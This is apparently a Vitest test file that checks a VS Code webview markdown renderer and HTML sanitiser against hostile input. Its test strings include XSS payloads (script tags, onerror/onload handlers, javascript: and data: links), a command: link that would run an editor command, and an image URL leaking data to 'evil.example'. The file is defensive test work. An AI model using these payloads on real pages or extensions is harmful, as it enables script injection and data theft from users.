// @vitest-environment jsdom
import { beforeEach, describe, expect, it } from "vitest";
import {
  markdownToSafeHtml,
  MAX_MARKDOWN_CHARS,
  renderInto,
  sanitizeHtml,
} from "../../../../src/webview/markdown/markdown";

const strings = {
  copy: "Copy",
  copied: "Copied",
  truncated: "Shown as plain text.",
  insertAtCursor: "Insert at Cursor",
  openInEditor: "Open in New Editor",
};

function render(text: string, copied: string[] = []): HTMLElement {
  const target = document.createElement("div");
  document.body.append(target);
  renderInto(target, text, { strings, copy: (t) => copied.push(t) });
  return target;
}

/** A global flag a hostile payload would set if any of its code ran. */
declare global {
  interface Window {
    pwned?: number;
  }
}

describe("markdown rendering", () => {
  beforeEach(() => {
    document.body.replaceChildren();
    window.pwned = undefined;
  });

  it("renders markdown: headings, emphasis, lists, tables, inline code", () => {
    const el = render("# Title\n\nSome **bold** and `code`.\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |");
    expect(el.querySelector("h1")?.textContent).toBe("Title");
    expect(el.querySelector("strong")?.textContent).toBe("bold");
    expect(el.querySelectorAll("li")).toHaveLength(2);
    expect(el.querySelector("table td")?.textContent).toBe("1");
    expect(el.querySelector("p code")?.textContent).toBe("code");
  });

  it("shows raw HTML as text, never as elements", () => {
    const el = render(
      '<script>window.pwned = 1</script>\n\n<img src=x onerror="window.pwned=2">\n\n<b onclick="x()">hi</b>',
    );
    expect(el.querySelector("script")).toBeNull();
    expect(el.querySelector("img")).toBeNull();
    expect(el.querySelector("b")).toBeNull();
    expect(el.textContent).toContain("<script>window.pwned = 1</script>");
    expect(window.pwned).toBeUndefined();
  });

  it("drops javascript:, vbscript: and data: links, keeps https links inert to the page", () => {
    const el = render(
      "[a](javascript:window.pwned=3) [b](JaVaScRiPt:alert(1)) [c](vbscript:msgbox) [d](data:text/html,<script>1</script>) [e](https://example.com)",
    );
    const hrefs = Array.from(el.querySelectorAll("a")).map((a) => a.getAttribute("href"));
    expect(hrefs).toEqual(["https://example.com"]);
    const link = el.querySelector("a")!;
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link.hasAttribute("target")).toBe(false);
    expect(window.pwned).toBeUndefined();
  });

  it("drops command: links (they could run VS Code commands) and remote images", () => {
    const el = render('[run](command:workbench.action.quit) ![x](https://evil.example/leak?d=secret "t")');
    expect(el.querySelector("a[href^='command:']")).toBeNull();
    const img = el.querySelector("img");
    expect(img?.getAttribute("src") ?? null).toBeNull();
  });

  it("sanitises even if the markdown layer let HTML through (defence in depth)", () => {
    const html = sanitizeHtml(
      '<svg onload="window.pwned=5"></svg><iframe src="javascript:window.pwned=6"></iframe><a href="javascript:x()" onclick="y()">l</a>' +
        '<form action="https://x"><input></form><img src="x" onerror="window.pwned=7"><p style="position:fixed">s</p><math><mi>m</mi></math>',
    );
    expect(html).not.toMatch(/<svg|<iframe|<form|<input|<math|onload|onclick|onerror|javascript:|style=/i);
    const box = document.createElement("div");
    box.innerHTML = html;
    document.body.append(box);
    expect(window.pwned).toBeUndefined();
    // The markdown layer alone already escapes raw HTML.
    expect(markdownToSafeHtml("<iframe src=javascript:alert(1)></iframe>")).toContain("&lt;iframe");
  });

  it("wraps code blocks with a language label and a copy button that sends the code", () => {
    const copied: string[] = [];
    const el = render("```ts\nconst x = 1;\n```", copied);
    const block = el.querySelector(".code-block")!;
    expect(block.querySelector(".code-lang")?.textContent).toBe("ts");
    const button = block.querySelector<HTMLButtonElement>("button.copy-code-button")!;
    expect(button.getAttribute("aria-label")).toBe("Copy");
    button.click();
    expect(copied).toEqual(["const x = 1;\n"]);
    expect(button.getAttribute("aria-label")).toBe("Copied");
  });

  it("renders huge content as plain text without markdown, quickly enough not to hang", () => {
    const huge = "**x** <script>window.pwned=4</script> ".repeat(Math.ceil((MAX_MARKDOWN_CHARS * 2) / 40));
    const el = render(huge);
    expect(el.querySelector("strong")).toBeNull();
    expect(el.querySelector("pre.plain-text")?.textContent?.length).toBe(huge.length);
    expect(el.querySelector(".truncated-note")?.textContent).toBe("Shown as plain text.");
    expect(window.pwned).toBeUndefined();
  });

  it("survives pathological nesting", () => {
    const el = render(`${"> ".repeat(5000)}deep\n\n${"[".repeat(5000)}x${"]".repeat(5000)}`);
    // markdown-it caps nesting (the deepest text may be dropped) instead of recursing without end.
    expect(el.textContent).toContain("x]]]");
  });
});
